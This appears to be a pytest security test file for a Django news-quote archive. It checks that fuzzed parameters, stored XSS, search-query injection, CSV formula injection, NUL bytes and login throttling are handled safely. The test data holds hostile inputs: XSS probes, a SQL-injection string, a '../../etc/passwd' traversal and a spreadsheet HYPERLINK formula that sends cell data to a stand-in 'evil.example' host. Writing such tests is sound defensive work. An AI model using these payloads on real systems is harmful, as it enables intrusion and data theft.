"""Hostile input on every page and API: no parameter value gives a server
error, a refused one is explained, and markup planted in articles, titles,
speakers, sources and queries comes out escaped everywhere."""

import json
import time
from html.parser import HTMLParser

import pytest
from django.test import Client
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from archive import services
from archive.ingest.records import ArticleInput
from archive.models import Article, Quote, Speaker

PARAMETERS = ["q", "page", "speaker", "source", "since", "until", "sort"]
NASTY_VALUES = [
    "",
    " ",
    "x" * 600,
    "\x00",
    "%00",
    "\u202e\u200b",
    "😀" * 50,
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "*",
    "?",
    "(",
    ")",
    '"',
    '"unbalanced',
    "AND OR NOT",
    "title:x",
    "speaker:[a TO z]",
    "x~",
    "x^3",
    "-1",
    "0",
    "99999999999999999999",
    "1e9",
    "1.5",
    "last",
    "2024-02-30",
    "0000-00-00",
    "9999-12-31",
    "2024-13-01",
    "vladimir-putin",
    "UPPER-Case",
    "../../etc/passwd",
    "a" * 301,
]
PAGES = [
    "/",
    "/search/",
    "/quotes/",
    "/speakers/",
    "/speakers/vladimir-putin/",
    "/api/quotes/",
    "/api/articles/",
    "/api/speakers/",
]


def assert_answer_is_clear(response, path):
    """Never a server error; a refusal says what was wrong."""
    assert response.status_code in (200, 400, 404), (path, response.status_code)
    if path.startswith("/api/"):
        body = json.loads(response.content)
        if response.status_code == 400:
            assert isinstance(body["error"], str) and body["error"], body
        else:
            assert "results" in body
    elif response.status_code == 200 and response.context and "form" in response.context:
        form = response.context["form"]
        if form.is_bound and form.errors:
            content = response.content.decode()
            assert 'class="error"' in content or 'class="errors"' in content, path


@pytest.mark.django_db
@pytest.mark.parametrize("parameter", PARAMETERS)
def test_every_get_parameter_of_every_page_survives_nasty_values(seeded, parameter):
    client = Client()
    article, quote = Article.objects.first(), Quote.objects.first()
    for path in [*PAGES, f"/articles/{article.pk}/", f"/quotes/{quote.pk}/"]:
        for value in NASTY_VALUES:
            response = client.get(path, {parameter: value})
            assert_answer_is_clear(response, f"{path}?{parameter}={value!r}")
        # The same parameter twice, and raw bytes that are not UTF-8.
        assert_answer_is_clear(client.get(f"{path}?{parameter}=a&{parameter}=b"), path)
        for raw in ("%ff%fe", "%ed%a0%80", "%00", "%"):  # bytes that are not UTF-8, a lone surrogate, NUL
            assert_answer_is_clear(client.get(f"{path}?{parameter}={raw}"), path)


@pytest.mark.django_db
@settings(
    max_examples=60,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    params=st.dictionaries(
        st.sampled_from(PARAMETERS), st.text(st.characters(exclude_categories=["Cs"]), max_size=40), max_size=4
    ),
    path=st.sampled_from(["/search/", "/quotes/", "/speakers/vladimir-putin/", "/api/quotes/", "/api/articles/"]),
)
def test_generated_query_strings_never_break_a_page(seeded, params, path):
    assert_answer_is_clear(Client().get(path, params), f"{path}?{params!r}")


# -- stored XSS -----------------------------------------------------------------

PROBE = '"><xss-probe onmouseover="alert(1)">escalation</xss-probe><script>alert(2)</script>'
PROBE_BODY = (
    "Moscow warns of escalation\n\n"
    f"“We will answer any {PROBE} with force,” Vladimir Putin said on Tuesday.\n\n"
    f"“Escalation <img src=x onerror=alert(3)> is their choice,” the <b>Kremlin</b> said. {PROBE}"
)


class _Markup(HTMLParser):
    """Collects what a browser would build: elements and their attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        ours = tag == "svg" and (("class", "timeline-chart") in attrs or ("aria-hidden", "true") in attrs)
        # Ours too: the site's own script file (suggest.js), never inline script.
        ours = ours or (tag == "script" and (dict(attrs).get("src") or "").startswith("/static/archive/"))
        if tag in {"xss-probe", "script", "img", "svg", "iframe", "b"} and not ours:  # the timeline's SVG is ours
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on") or (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"{tag} {name}={value!r}")


@pytest.fixture
def planted(db, search_index, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        result = services.ingest_article(
            ArticleInput(raw_text=PROBE_BODY, title=f"Title {PROBE}", source=f"Wire {PROBE}")
        )
    article = result.article
    speaker = Speaker.objects.create(name=f"Speaker {PROBE}", slug="planted-speaker")
    article.quotes.update(speaker=speaker)
    services.index_articles([article.pk])
    return article, speaker


@pytest.mark.parametrize("query", ["escalation", "alert", PROBE, "xss-probe onmouseover", "<b>Kremlin</b>"])
def test_planted_markup_is_escaped_on_every_page(planted, query):
    article, speaker = planted
    quote = article.quotes.first()
    client = Client()
    paths = [
        "/",
        f"/articles/{article.pk}/",
        f"/quotes/{quote.pk}/",
        "/speakers/",
        f"/speakers/{speaker.slug}/",
        "/quotes/",
        "/search/",
    ]
    for path in paths:
        for params in ({}, {"q": query}, {"q": query, "speaker": speaker.slug}, {"source": PROBE}):
            response = client.get(path, params)
            assert response.status_code in (200, 400), (path, params)
            parser = _Markup()
            parser.feed(response.content.decode())
            assert parser.problems == [], (path, params, parser.problems)
    assert Client().get("/search/", {"q": "escalation"}).content.decode().count('<mark class="hit') >= 1


def test_raw_text_and_api_are_not_rendered_as_html(planted):
    article, _ = planted
    raw = Client().get(f"/articles/{article.pk}/raw/")
    assert raw["Content-Type"].startswith("text/plain") and raw["X-Content-Type-Options"] == "nosniff"
    api = Client().get("/api/quotes/", {"q": "escalation"})
    assert api["Content-Type"] == "application/json" and api["X-Content-Type-Options"] == "nosniff"
    speakers = [(result["speaker"] or {}).get("name", "") for result in json.loads(api.content)["results"]]
    assert f"Speaker {PROBE}" in speakers  # kept verbatim as data


# -- issue 18: hostile input costs milliseconds, never a worker ---------------------------

# Queries that once escaped haystack's quoting: `x')*e*)('` became a wildcard and
# `x')putin~3)('` a fuzzy term, each costing a worker seconds.
HOSTILE_QUERIES = [
    "x')abcdefghijkl~8)('",
    "x')*e*)('",
    "x')putin~3)('",
    "putin~3",
    "missil*",
    "?utin",
    "putin^9 AND kremlin OR nato NOT x",
    "text:putin speaker:[a TO z]",
    '"unbalanced putin',
    "'single' \"double\" “curly” putin",
    "-putin -(kremlin*)",
    "(((putin~9)))",
]


def _walk(query):
    yield query
    for child in query.children():
        yield from _walk(child)


@pytest.fixture
def parsed_queries(monkeypatch):
    """Every Whoosh query object a search runs, as the backend hands it to Whoosh."""
    from archive.search.whoosh import RedlineWhooshBackend

    seen = []
    run = RedlineWhooshBackend._results

    def spy(self, searcher, parsed, *args, **kwargs):
        seen.append(parsed)
        return run(self, searcher, parsed, *args, **kwargs)

    monkeypatch.setattr(RedlineWhooshBackend, "_results", spy)
    return seen


@pytest.mark.django_db
@pytest.mark.parametrize("path", ["/search/", "/quotes/", "/api/quotes/", "/api/articles/", "/quotes/export.json"])
def test_hostile_queries_reach_whoosh_without_wildcards_or_fuzzy_terms(seeded, parsed_queries, path):
    from whoosh.query import ExpandingTerm, PatternQuery, RangeMixin

    client = Client()
    for query in HOSTILE_QUERIES:
        response = client.get(path, {"q": query})
        assert response.status_code == 200, (path, query)
    assert len(parsed_queries) >= len(HOSTILE_QUERIES)  # each one was searched
    for parsed in parsed_queries:
        expanding = [node for node in _walk(parsed) if isinstance(node, PatternQuery | ExpandingTerm | RangeMixin)]
        assert expanding == [], parsed


@pytest.mark.django_db
def test_phrases_and_left_out_words_still_work(seeded):
    def count(q):
        return Client().get("/api/quotes/", {"q": q}).json()["count"]

    assert count("escalation") >= 2
    assert count("“new escalation”") == 1  # curly marks make a phrase too
    assert count('"escalation new"') == 0
    assert count("escalation -“new escalation”") == count("escalation") - 1


@pytest.mark.django_db
def test_a_search_past_its_time_budget_answers_with_what_it_found_marked_partial(seeded, settings):
    from archive.caching import page_cache
    from archive.forms import ArticleSearchForm

    settings.REDLINE_PAGE_CACHE = "local"  # what is kept is looked at below, also where CI runs with Redis
    whole = Client().get("/api/quotes/", {"q": "putin"}).json()
    assert whole["count"] >= 2 and "partial" not in whole  # within its budget: the shape as documented
    matching = ArticleSearchForm({"q": "russia", "sort": "oldest"}).search().count()
    assert matching == 2
    settings.REDLINE_SEARCH_SECONDS = 0  # every search is past its budget at its first match
    response = Client().get("/api/articles/", {"q": "russia"})
    body = response.json()
    assert body["partial"] is True and response["X-Search-Partial"] == "true"
    assert body["count"] == len(body["results"]) == 1  # the first article it came to
    assert Client().get("/api/quotes/", {"q": "russia"}).json()["partial"] is True
    # A long phrase of common words works hard finding nothing: the clock is read as
    # posting lists are stepped through, not only as matches are collected.
    long_phrase = Client().get("/api/quotes/", {"q": '"russia russia russia russia"'}).json()
    assert long_phrase["partial"] is True and long_phrase["count"] == 0
    exported = Client().get("/articles/export.json", {"q": "russia"})
    assert json.loads(b"".join(exported.streaming_content))["partial"] is True
    assert Client().get("/articles/export.csv", {"q": "russia"})["X-Search-Partial"] == "true"
    page = Client().get("/search/", {"q": "russia"})
    assert page.status_code == 200 and "ran out of time" in page.content.decode()
    # A cut-short answer is not kept: the next reader's search may find everything.
    assert page_cache().pages and not [page for page in page_cache().pages.values() if b"ran out" in page.content]


# -- the page cache -------------------------------------------------------------------


@pytest.fixture
def five_megabyte_article(db, search_index):
    from archive.ingest.pipeline import sha256

    paragraph = "Officials met again on Tuesday to discuss the border, and nobody was quoted at any length. "
    body = "\n\n".join(paragraph * 4 for _ in range(15_000))[: 5 * 1024 * 1024]
    return Article.objects.create(
        title="A very long report", raw_text=body, raw_sha256=sha256(body), body=body, body_sha256=sha256(body)
    )


@pytest.mark.django_db
def test_the_page_cache_keys_only_on_known_parameters_and_stays_within_its_bound(five_megabyte_article, settings):
    from archive.caching import page_cache

    settings.REDLINE_PAGE_CACHE = "local"  # each worker's own bound (Redis has its own maxmemory)
    settings.REDLINE_PAGE_CACHE_BYTES = 64 * 1024 * 1024  # room for this 5 MB page (an eighth of the cache)
    client = Client()
    first = client.get(f"/articles/{five_megabyte_article.pk}/").content
    cache = page_cache()
    for n in range(1_000):
        response = client.get(f"/articles/{five_megabyte_article.pk}/", {"x": n, f"utm_{n}": "y"})
        assert response.status_code == 200
        assert cache.size <= cache.max_bytes
    assert len(cache.pages) == 1 and response.content == first


@pytest.mark.django_db
def test_a_page_over_the_size_bound_is_not_kept(five_megabyte_article, settings):
    from archive.caching import page_cache

    settings.REDLINE_PAGE_CACHE = "local"
    settings.REDLINE_PAGE_CACHE_BYTES = 32 * 1024 * 1024  # pages over 4 MB are not kept
    for _ in range(2):
        assert Client().get(f"/articles/{five_megabyte_article.pk}/").status_code == 200
    assert page_cache().pages == {}


@pytest.mark.django_db
def test_many_distinct_searches_keep_the_cache_within_its_bound(seeded, settings):
    from archive.caching import page_cache

    settings.REDLINE_PAGE_CACHE = "local"
    settings.REDLINE_PAGE_CACHE_BYTES = 160 * 1024
    client = Client()
    for n in range(150):
        assert client.get("/search/", {"q": f"putin word{n}"}).status_code == 200
        assert page_cache().size <= 160 * 1024
    assert 0 < len(page_cache().pages) < 150  # the least recently served went first


@pytest.mark.django_db
def test_parameters_a_page_does_not_take_never_reach_it(seeded):
    client = Client()
    plain = client.get("/quotes/", {"q": "putin"}).content.decode()
    assert client.get("/quotes/", {"q": "putin", "page_size": "9999", "x": "1"}).content.decode() == plain
    # The API and the exports refuse them, naming the ones they take (issue 15).
    for path in ("/api/quotes/", "/api/speakers/", "/quotes/export.csv"):
        refused = client.get(path, {"q": "putin", "x": "1"})
        assert refused.status_code == 400 and "Unknown parameter: x" in refused.json()["error"]


# -- CSV formula injection ------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx"]


@pytest.mark.django_db
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(seeded, django_capture_on_commit_callbacks):
    import csv
    import io

    said = "\n\n".join(f"“We will answer strike number {n} in kind,” Vladimir Putin said." for n in range(5))
    with django_capture_on_commit_callbacks(execute=True):
        article = services.ingest_article(
            ArticleInput(raw_text=f"Talks stall\n\n{said}\n", title=FORMULAS[0], source="@Wire")
        ).article
    quotes = list(article.quotes.order_by("start"))
    assert len(quotes) == len(FORMULAS) - 1
    for quote, formula in zip(quotes, FORMULAS[1:], strict=True):
        Quote.all_objects.filter(pk=quote.pk).update(text=formula)
    client = Client()
    for path, cells in (
        ("/quotes/export.csv", ("text", "article_title", "source")),
        ("/articles/export.csv", ("title", "source")),
    ):
        rows = list(csv.DictReader(io.StringIO(b"".join(client.get(path).streaming_content).decode("utf-8-sig"))))
        values = [row[cell] for row in rows for cell in cells if row[cell]]
        assert values and not [value for value in values if value[0] in "=+-@\t\r"], values
        assert f"'{FORMULAS[0]}" in values and "'@Wire" in values
    exported = json.loads(b"".join(client.get("/quotes/export.json").streaming_content))
    assert {row["article_title"] for row in exported["results"]} >= {FORMULAS[0]}  # JSON keeps the text as it is
    assert FORMULAS[1] in {row["text"] for row in exported["results"]}


# -- NUL characters -------------------------------------------------------------------------


@pytest.fixture
def editor(client, db):
    from django.contrib.auth.models import Group, User

    user = User.objects.create_user("editor", password="pw-for-tests", is_staff=True)
    user.groups.add(Group.objects.get(name="Editors"))
    client.force_login(user)
    return client


@pytest.mark.parametrize("name", ["long.txt", "long.html"])
def test_an_upload_with_a_nul_byte_after_8_kb_is_refused_with_a_message(editor, name):
    from django.core.files.uploadedfile import SimpleUploadedFile

    paragraph = "<p>“We will respond,” Putin said on Friday in Moscow.</p>\n" if name.endswith(".html") else ""
    text = (paragraph or "“We will respond,” Putin said on Friday in Moscow.\n\n") * 300
    data = text.encode() + b"\x00tail"
    response = editor.post("/admin/archive/article/add/", {"upload": SimpleUploadedFile(name, data)})
    assert response.status_code == 200 and "NUL byte" in response.content.decode()
    assert not Article.objects.exists()


def test_pasted_text_with_a_nul_is_refused_with_a_message(editor):
    response = editor.post("/admin/archive/article/add/", {"raw_text": "“We will respond,” Putin said.\x00"})
    assert response.status_code == 200 and "Null characters are not allowed" in response.content.decode()
    assert not Article.objects.exists()


@pytest.mark.django_db
def test_a_fetched_page_with_a_nul_is_refused(settings):
    from archive.ingest.records import UnreadableInput

    from .web_server import EXTRA_PAGES, serving

    settings.REDLINE_ALLOW_PRIVATE_URLS = True
    status, content_type, body = EXTRA_PAGES["/article.html"]
    EXTRA_PAGES["/nul.html"] = (status, content_type, body.replace(b"this week.", b"this week.\x00"))
    try:
        with serving() as base, pytest.raises(UnreadableInput, match="NUL"):
            services.ingest_web_page(base + "/nul.html")
    finally:
        del EXTRA_PAGES["/nul.html"]
    assert not Article.objects.exists()


# -- far dates --------------------------------------------------------------------------------

FAR_DATES = [{"since": "0001-01-01"}, {"until": "0999-12-31"}, {"since": "0001-01-01", "q": "putin"}]


@pytest.mark.django_db
@pytest.mark.parametrize("params", FAR_DATES)
@pytest.mark.parametrize(
    "path", ["/api/quotes/", "/api/articles/", "/quotes/feed/", "/quotes/export.csv", "/articles/export.json"]
)
def test_dates_the_index_cannot_store_get_a_400_with_a_message(seeded, path, params):
    response = Client().get(path, {**params, "q": params.get("q", "")})
    assert response.status_code == 400
    assert "from 1000-01-01 to 9999-12-31" in response.content.decode()


@pytest.mark.django_db
@pytest.mark.parametrize("params", FAR_DATES)
@pytest.mark.parametrize("path", ["/search/", "/quotes/", "/speakers/vladimir-putin/"])
def test_dates_the_index_cannot_store_are_shown_as_an_error_on_pages(seeded, path, params):
    response = Client().get(path, params)
    content = response.content.decode()
    assert response.status_code == 200 and 'class="error" role="alert">Dates from 1000-01-01' in content
    assert "from 1000-01-01 to 9999-12-31" in content


# -- quote-dense uploads ------------------------------------------------------------------------


def _quote_dense(size):
    return "".join(f'"We will respond {n}," Putin said. ' for n in range(size // 30))[:size]


# The growth class, not a speed: for 8 times the text, linear work takes 8 times as long
# and quadratic 64 times; the bound sits between, on CPU time. The cap on quotes per
# article is lifted so that every quote is stored, coded and grouped.
@pytest.mark.django_db
def test_storing_a_quote_dense_text_takes_time_linear_in_its_length(settings):
    settings.REDLINE_MAX_QUOTES_PER_ARTICLE = 1_000_000
    timings, stored = [], []
    for size in (16_000, 128_000):
        started = time.process_time()
        article = services.ingest_article(ArticleInput(raw_text=_quote_dense(size)), index=False).article
        timings.append(time.process_time() - started)
        stored.append(article.quotes.count())
    assert stored[1] > 7 * stored[0] > 7 * 400
    assert timings[1] < 24 * max(timings[0], 0.05), timings


def test_a_200_kb_quote_dense_upload_is_stored_with_its_first_quotes_and_a_message(
    editor, search_index, django_capture_on_commit_callbacks
):
    from django.core.files.uploadedfile import SimpleUploadedFile

    data = _quote_dense(200_000).encode()
    from django.contrib.messages import get_messages

    with django_capture_on_commit_callbacks(execute=True):
        response = editor.post("/admin/archive/article/add/", {"upload": SimpleUploadedFile("transcript.txt", data)})
    assert response.status_code == 302
    article = Article.objects.get()
    assert article.body.startswith('"We will respond 0,"') and len(article.raw_text) == 200_000
    assert article.quotes.count() == 1_000
    messages = [str(message) for message in get_messages(response.wsgi_request)]
    assert any("an article keeps at most 1,000" in message and "Split the text" in message for message in messages)


# -- login throttling behind the TLS proxy ---------------------------------------------------------

PROXY = "10.0.0.2"  # every request reaches gunicorn from the proxy's address
EDITOR_HOME, STRANGER = "198.51.100.7", "203.0.113.66"


def _login(password, client_address, *, forwarded=None, username="editor"):
    # The proxy appends the address the request came from to what the client sent.
    chain = f"{forwarded}, {client_address}" if forwarded else client_address
    return Client().post(
        "/admin/login/",
        {"username": username, "password": password},
        REMOTE_ADDR=PROXY,
        HTTP_X_FORWARDED_FOR=chain,
    )


@pytest.fixture
def behind_one_proxy(settings, django_user_model):
    settings.REDLINE_TRUSTED_PROXIES = 1
    django_user_model.objects.create_superuser("editor", "editor@example.org", "right-horse-battery")
    return settings


@pytest.mark.django_db
def test_a_stranger_behind_the_proxy_cannot_lock_an_editor_out(behind_one_proxy):
    for _ in range(behind_one_proxy.AXES_FAILURE_LIMIT):
        response = _login("wrong", STRANGER, forwarded=EDITOR_HOME)  # claiming the editor's address, too
    assert response.status_code == 429  # the stranger is locked out
    assert _login("right-horse-battery", STRANGER).status_code == 429  # even with the password
    assert _login("right-horse-battery", EDITOR_HOME).status_code == 302  # the editor is not


@pytest.mark.django_db
def test_many_strangers_lock_a_username_out_only_where_its_editor_never_logged_in(behind_one_proxy):
    behind_one_proxy.REDLINE_LOGIN_USERNAME_LIMIT = 6
    assert _login("right-horse-battery", EDITOR_HOME).status_code == 302  # an address the editor uses
    for n in range(5):  # two guesses each from three addresses: under the per-address limit
        assert _login("wrong", f"203.0.113.{n // 2 + 10}").status_code == 200
    assert _login("wrong", "203.0.113.12").status_code == 429  # the sixth for this username
    assert _login("right-horse-battery", "192.0.2.44").status_code == 429  # a new address: held back
    assert _login("right-horse-battery", EDITOR_HOME).status_code == 302  # the editor's own: never


@pytest.mark.django_db
def test_without_trusted_proxies_the_forwarded_header_is_ignored(settings, django_user_model):
    django_user_model.objects.create_superuser("editor", "editor@example.org", "right-horse-battery")
    for n in range(settings.AXES_FAILURE_LIMIT):  # a new made-up address in every request
        response = _login("wrong", f"203.0.113.{n}")
    assert response.status_code == 429  # all counted against the connection's address
